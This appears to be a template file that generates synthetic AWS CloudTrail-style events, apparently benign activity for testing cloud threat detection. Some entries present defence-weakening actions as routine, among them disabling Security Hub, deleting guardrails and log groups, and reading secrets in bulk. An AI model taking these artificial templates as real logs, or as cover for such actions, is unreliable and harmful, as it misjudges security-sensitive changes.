machine ;; s3 ;; «DeleteBucketReplication|ListObjectVersions|GetBucketAcl|GetBucketPolicy|DeleteBucketPolicy|PutObject» ;; {"bucketName":"«site»-«test|stage|logs»","key":"«word»/README.md"}
# aws functions and messages in use
machine ;; lambda ;; «CreateFunctionUrlConfig|AddLayerVersionPermission20181031|UpdateFunctionConfiguration20150331v2|PublishLayerVersion20181031» ;; {"functionName":"@thing@","authType":"AWS_IAM","layers":["arn:aws:lambda:«region»:«464622532012:layer:Datadog-Extension|«account»:layer:deps|580247275435:layer:LambdaInsightsExtension»:«num:1:60»"]}
machine ;; cloudformation ;; «CreateStackSet|CreateStackInstances|UpdateStackSet|DeleteStack» ;; {"stackSetName":"«site»-baseline","permissionModel":"SERVICE_MANAGED","capabilities":["CAPABILITY_NAMED_IAM"],"deploymentTargets":{"organizationalUnitIds":["ou-«token:4»-«token:8»"]}}
machine ;; events ;; «PutPermission|CreateConnection|CreateApiDestination|PutTargets» ;; {"eventBusName":"central","condition":{"type":"StringEquals","key":"aws:PrincipalOrgID","value":"o-«token:10»"},"invocationEndpoint":"https://hooks.«sitedomain»/aws"}
person ;; codebuild ;; «CreateProject|UpdateWebhook|StartBuild» ;; {"projectName":"@thing@","filterGroups":[[{"type":"EVENT","pattern":"PUSH"}]],"privilegedModeOverride":true}
machine ;; ecs ;; «CreateService|RegisterTaskDefinition» ;; {"cluster":"«prod|stage»","serviceName":"@thing@","desiredCount":«num:1:6»,"taskDefinition":"@thing@:«num:1:300»"}
machine ;; eks ;; «UpdateClusterConfig|AssociateAccessPolicy|CreateAccessEntry» ;; {"name":"«prod|stage»","resourcesVpcConfig":{"endpointPublicAccess":false,"endpointPrivateAccess":true},"logging":{"clusterLogging":[{"types":["audit","authenticator"],"enabled":true}]},"policyArn":"arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy","principalArn":"arn:aws:iam::«account»:role/platform"}
machine ;; ecr ;; «DeleteRepository|PutImageTagMutability|SetRepositoryPolicy» ;; {"repositoryName":"«pr|tmp»/«word»","imageTagMutability":"IMMUTABLE"}
machine ;; ses ;; «VerifyEmailIdentity|SendRawEmail|SendBulkEmail|PutAccountSuppressionAttributes|UpdateAccountSendingEnabled» ;; {"emailAddress":"«noreply|tickets»@«sitedomain»","source":"noreply@«sitedomain»","enabled":true}
machine ;; sns ;; «Publish|SetSMSAttributes|GetSMSAttributes» ;; {"phoneNumber":"HIDDEN_DUE_TO_SECURITY_REASONS","attributes":{"DefaultSMSType":"Transactional"}}
person ;; servicequotas ;; «ListServiceQuotas|RequestServiceQuotaIncrease» ;; {"serviceCode":"ec2","quotaCode":"L-1216C47A","desiredValue":«num:48:160»}
# aws models and pools administered
person ;; bedrock ;; «DeleteGuardrail|DeleteModelInvocationLoggingConfiguration|GetModelInvocationLoggingConfiguration|GetFoundationModelAvailability|ListFoundationModelAgreementOffers|GetUseCaseForModelAccess» ;; {"guardrailIdentifier":"«token:12»","modelId":"anthropic.claude-3-haiku-20240307-v1:0","note":"«test|poc»"}
person ;; sagemaker ;; «CreateNotebookInstance|CreateNotebookInstanceLifecycleConfig|CreatePresignedDomainUrl» ;; {"notebookInstanceName":"«user»-«word»","instanceType":"ml.t3.«medium|large»","directInternetAccess":"Disabled","rootAccess":"Disabled"}
machine ;; cognito-idp ;; «SetUserPoolMfaConfig|AdminUpdateUserAttributes|AdminAddUserToGroup|ListUsers» ;; {"userPoolId":"«region»_«mixed:9»","mfaConfiguration":"ON","softwareTokenMfaConfiguration":{"enabled":true},"userAttributes":[{"name":"custom:plan","value":"«free|pro»"}]}
nobody ;; cognito-idp ;; «InitiateAuth|ConfirmForgotPassword|ForgotPassword|UpdateUserAttributes» ;; {"clientId":"«token:26»","authFlow":"USER_PASSWORD_AUTH","_error":"«NotAuthorizedException|CodeMismatchException|»","_message":"Incorrect username or password.","_more":{"requestContext":{"countryCode":"«DE|US|FR»"}}}
nobody ;; s3 ;; «GetObject|ListObjects» ;; {"bucketName":"«www|static|downloads».«sitedomain»","key":"«img|css|docs»/«word»-«hex:8».«png|css|pdf»","_more":{"bytesTransferredOut":«num:2000:900000»}}
# aws watch changed for a reason
person ;; guardduty ;; «UpdateDetector|CreateIPSet|UpdatePublishingDestination|DisassociateMembers» ;; {"detectorId":"«hex:32»","enable":true,"findingPublishingFrequency":"FIFTEEN_MINUTES","name":"«offices|scanner»","location":"https://s3.amazonaws.com/«site»-security/office-ips.txt","activate":true}
person ;; config ;; «StopConfigurationRecorder|StartConfigurationRecorder|DeleteConfigRule|DeleteConfigurationRecorder|DeleteDeliveryChannel» ;; {"configurationRecorderName":"«test|sandbox|old-«word»»","configRuleName":"«test|old»-«word»"}
person ;; securityhub ;; «BatchDisableStandards|CreateAutomationRule|DisassociateMembers|DisableSecurityHub» ;; {"standardsSubscriptionArns":["arn:aws:securityhub:«region»:«account»:subscription/cis-aws-foundations-benchmark/v/1.2.0"],"ruleName":"suppress sandbox","accountIds":["«num:100000000000:999999999999»"]}
machine ;; logs ;; «DeleteSubscriptionFilter|DeleteLogStream|DeleteMetricFilter|DeleteLogGroup» ;; {"logGroupName":"/aws/«lambda|codebuild»/«pr-«num:1:900»|old»-«word»","filterName":"«old|test»"}
person ;; «inspector2|macie2|detective» ;; «Enable|EnableMacie|Disable|DisableMacie|CreateGraph|DeleteGraph» ;; {"accountIds":["«account»"],"resourceTypes":["LAMBDA"],"reason":"@ticket@ not used in this region"}
machine ;; wafv2 ;; «DeleteLoggingConfiguration|PutLoggingConfiguration|UpdateWebACL» ;; {"resourceArn":"arn:aws:wafv2:«region»:«account»:regional/webacl/«test|edge»/«guid»","defaultAction":{"allow":{}},"rules":[{"name":"AWSManagedRulesCommonRuleSet","priority":1}]}
person ;; route53domains ;; «RetrieveDomainAuthCode|UpdateDomainNameservers|DisableDomainTransferLock|EnableDomainTransferLock|RenewDomain» ;; {"domainName":"«word»-«word».com","nameservers":[{"name":"ns-«num:1:2000».awsdns-«num:10:60».org"}]}
# aws settings of containers in the same form set well
person ;; eks ;; «CreateAccessEntry|AssociateAccessPolicy» ;; {"name":"«prod|stage»","principalArn":"arn:aws:iam::«account»:role/«Developer|oncall»","policyArn":"arn:aws:eks::aws:cluster-access-policy/AmazonEKS«Edit|View»Policy","accessScope":{"type":"«namespace|cluster»"}}
machine ;; ecs ;; «RegisterTaskDefinition|RunTask» ;; {"cluster":"«prod|batch»","family":"@thing@","containerDefinitions":[{"image":"«account».dkr.ecr.«region».amazonaws.com/«word»:«hex:7»","cpu":«256|1024|4096»,"command":["sh","-c","«./migrate up|python -m worker|bundle exec sidekiq»"]}],"networkMode":"awsvpc","taskRoleArn":"arn:aws:iam::«account»:role/@thing@-task"}
person ;; ec2 ;; «CreateInstanceExportTask|CreateStoreImageTask|ExportImage» ;; {"imageId":"ami-«hex:17»","bucket":"«site»-images","exportToS3Task":{"diskImageFormat":"VMDK","s3Bucket":"«site»-images"},"description":"@ticket@"}
machine ;; eks ;; UpdateClusterConfig ;; {"name":"«stage|prod»","resourcesVpcConfig":{"endpointPublicAccess":true,"publicAccessCidrs":["«peer»/32"]},"logging":{"clusterLogging":[{"types":["audit","api","authenticator"],"enabled":true}]}}
# aws settings of policies in the same form set well
person ;; signin ;; GetSigninToken ;; {"_got":{"GetSigninToken":"Success"},"_more":{"MobileVersion":"No","SessionDuration":"«3600|14400»"}}
machine ;; ecr ;; «DeleteRepository|PutImage» ;; {"repositoryName":"«pr|tmp»/«word»","imageTag":"«latest|pr-«num:1:900»»","force":true}
machine ;; iam ;; «CreatePolicyVersion|SetDefaultPolicyVersion» ;; {"policyArn":"arn:aws:iam::«account»:policy/@thing@","setAsDefault":true,"versionId":"v«num:1:9»","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"dynamodb:«GetItem|Query»\"],\"Resource\":\"arn:aws:dynamodb:«region»:«account»:table/«word»\"}]}"}
person ;; ssm ;; SendCommand ;; {"documentName":"AWS-RunShellScript","instanceIds":["i-«hex:17»","i-«hex:17»"],"parameters":{"commands":["«systemctl status «word»|tail -n 50 /var/log/«word».log|curl -s localhost:8080/health|df -h»"]}}
# aws settings of machines and secrets in the same form set well
person ;; ssm ;; StartSession ;; {"target":"i-«hex:17»","documentName":"AWS-StartPortForwardingSessionToRemoteHost","parameters":{"host":["«word».cluster-«token:12».«region».rds.amazonaws.com"],"portNumber":["«5432|3306|6379»"]},"reason":"@ticket@"}
machine ;; ssm ;; «GetParametersByPath|DescribeParameters» ;; {"path":"/«prod|stage»/«word»","recursive":true,"withDecryption":true,"maxResults":10}
machine ;; secretsmanager ;; «ListSecrets|BatchGetSecretValue» ;; {"includePlannedDeletion":false,"maxResults":100,"secretIdList":["stage/«word»/db","stage/«word»/api"]}
machine ;; lambda ;; «CreateFunction20150331|UpdateFunctionCode20150331v2» ;; {"functionName":"@thing@","zipFile":"","runtime":"python3.12","role":"arn:aws:iam::«account»:role/@thing@-lambda","environment":{"variables":{"AWS_LAMBDA_EXEC_WRAPPER":"/opt/otel-instrument","STAGE":"prod"}}}
# aws changes of customers in the same form made well
machine ;; cognito-idp ;; «AdminSetUserPassword|AdminUpdateUserAttributes|AdminAddUserToGroup» ;; {"userPoolId":"«region»_«mixed:9»","username":"HIDDEN_DUE_TO_SECURITY_REASONS","permanent":«true|false»,"groupName":"«customers|staff»","userAttributes":[{"name":"email_verified","value":"true"}]}
nobody ;; cognito-identity ;; GetCredentialsForIdentity ;; {"identityPoolId":"«region»:«guid»","logins":{"cognito-idp.«region».amazonaws.com/«region»_«mixed:9»":"HIDDEN_DUE_TO_SECURITY_REASONS"},"_got":{"credentials":{"accessKeyId":"ASIA«HEX:16»"}},"_more":{"authType":"authenticated"}}
machine ;; cognito-idp ;; ListUsers ;; {"userPoolId":"«region»_«mixed:9»","limit":60,"paginationToken":"«b64:40»"}
person ;; organizations ;; AcceptHandshake ;; {"handshakeId":"h-«hex:32»","target":{"id":"«num:100000000000:999999999999»","type":"ACCOUNT"}}
machine ;; s3 ;; PutObject ;; {"bucketName":"«site»-@thing@","key":"«word»/«file»","_more":{"bytesTransferredIn":«num:400:900000»,"SSEApplied":"«Default_SSE_S3|SSE_KMS»"}}
# aws changes of accounts in the same form made well
person ;; iam ;; CreateAccessKey ;; {"userName":"«svc»","_got":{"accessKey":{"status":"Active","userName":"«svc»"}},"_more":{"MFAUsed":"Yes"}}
person ;; ses ;; PutAccountDetails ;; {"productionAccessEnabled":true,"mailType":"TRANSACTIONAL","websiteURL":"https://www.«sitedomain»","useCaseDescription":"order confirmations @ticket@"}
machine ;; rolesanywhere ;; «CreateTrustAnchor|UpdateTrustAnchor|CreateSession» ;; {"source":{"sourceType":"CERTIFICATE_BUNDLE","x509CertificateData":"-----BEGIN CERTIFICATE-----\\nMII«b64:24»"},"name":"«site»-pki-«year»","enabled":true}
machine ;; cloudtrail ;; «UpdateTrail|PutEventSelectors|PutInsightSelectors» ;; {"name":"org-trail","s3BucketName":"«site»-cloudtrail","isMultiRegionTrail":true,"includeGlobalServiceEvents":true,"enableLogFileValidation":true,"eventSelectors":[{"readWriteType":"All","includeManagementEvents":true,"excludeManagementEventSources":["rdsdata.amazonaws.com"]}]}
person ;; bedrock ;; PutUseCaseForModelAccess ;; {"modelId":"anthropic.claude-3-5-sonnet-20240620-v1:0","formData":"«b64:60»"}
# aws changes of reports in the same form made well
person ;; iam ;; «GetCredentialReport|GetAccountAuthorizationDetails|ListAttachedUserPolicies» ;; {"maxItems":1000}
person ;; redshift ;; GetClusterCredentials ;; {"clusterIdentifier":"«word»-dw","dbUser":"«user»","durationSeconds":3600,"autoCreate":true,"dbGroups":["analysts"]}
person ;; sts ;; GetAccessKeyInfo ;; {"accessKeyId":"AKIA«HEX:16»"}
person ;; events ;; PutRule ;; {"name":"iam-«word»-alert","eventPattern":"{\"source\":[\"aws.iam\"],\"detail\":{\"eventName\":[\"CreateUser\",\"CreateAccessKey\"]}}","targets":[{"id":"1","arn":"arn:aws:sns:«region»:«account»:security-alerts"}]}
machine ;; s3 ;; PutBucketReplication ;; {"bucketName":"«site»-prod","ReplicationConfiguration":{"Rule":{"Destination":{"Bucket":"arn:aws:s3:::«site»-backup-«region»","Account":"«account»"}}}}
# aws changes of mail and findings in the same form made well
machine ;; ec2 ;; ModifyInstanceMetadataOptions ;; {"instanceId":"i-«hex:17»","httpTokens":"required","httpPutResponseHopLimit":«1|2»}
person ;; guardduty ;; CreateFilter ;; {"detectorId":"«hex:32»","name":"«word»","action":"«NOOP|ARCHIVE»","findingCriteria":{"criterion":{"severity":{"gte":7},"resource.instanceDetails.tags.value":{"eq":["sandbox"]}}}}
machine ;; ses ;; «SendEmail|SendRawEmail|SendBulkEmail» ;; {"source":"«noreply|orders|billing»@«sitedomain»","destination":{"toAddresses":["HIDDEN_DUE_TO_SECURITY_REASONS"]},"configurationSetName":"transactional"}
person ;; securityhub ;; «CreateAutomationRule|BatchUpdateFindings» ;; {"criteria":{"severityLabel":[{"value":"LOW","comparison":"EQUALS"}],"resourceTags":[{"key":"env","value":"sandbox","comparison":"EQUALS"}]},"workflow":{"status":"SUPPRESSED"},"ruleName":"sandbox low"}
person ;; ec2 ;; «DescribeInstances|DescribeRegions|RunInstances» ;; {"dryRun":true,"_error":"«Client.DryRunOperation|Client.UnauthorizedOperation»","_message":"Request would have succeeded, but DryRun flag is set."}
"""))
